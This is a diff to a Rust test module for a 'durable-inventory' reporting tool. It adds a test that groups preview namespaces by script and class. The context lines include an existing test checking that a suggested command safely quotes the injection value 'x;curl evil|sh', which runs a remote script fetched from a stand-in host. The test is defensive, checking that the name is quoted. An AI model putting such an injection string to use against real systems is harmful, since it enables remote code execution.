@@ -70,7 +70,7 @@ fn last_failed(mut row: ReportRow) -> ReportRow {
     row
 }
 
-fn report(rows: &[ReportRow], points: &[PointRow]) -> Report {
+pub(super) fn report(rows: &[ReportRow], points: &[PointRow]) -> Report {
     Report::new(OPTIONS, NOW, rows.len(), rows, points, None)
 }
 
@@ -169,6 +169,45 @@ fn a_suggested_command_is_safe_to_paste() {
     assert!(
         why.ends_with("`durable-inventory namespaces retire 'x;curl evil|sh'`"),
         "{why}"
+    );
+}
+
+#[test]
+fn previews_of_one_script_and_class_are_one_entry() {
+    let points: Vec<_> = (1..=5).map(|key| point(key, 1, i64::from(key) * 10)).collect();
+    let preview = |key: i32, class: &str| {
+        let mut row = row(key, &points);
+        row.namespace.preview = Some(serde_json::json!({ "slug": "pr" }));
+        row.namespace.script = Some("shop".to_owned());
+        row.namespace.class = Some(class.to_owned());
+        row
+    };
+    let rows = [
+        row(1, &points),
+        preview(2, "Cart"),
+        preview(3, "Cart"),
+        preview(4, "Stock"),
+        row(5, &points),
+    ];
+    let report = report(&rows, &points);
+    let entries: Vec<_> = report
+        .entries()
+        .into_iter()
+        .map(|entry| match entry {
+            Entry::Namespace(figures) => figures.label().to_owned(),
+            Entry::Previews(previews) => {
+                let members: Vec<_> = previews.namespaces.iter().map(|figures| figures.label()).collect();
+                format!(
+                    "{}_{} {members:?} {}",
+                    previews.script, previews.class, previews.totals.count.objects
+                )
+            }
+        })
+        .collect();
+    assert_eq!(
+        entries,
+        ["name-5", r#"shop_Cart ["name-3", "name-2"] 50"#, "name-4", "name-1"],
+        "a single preview is a namespace like others; by size"
     );
 }
 
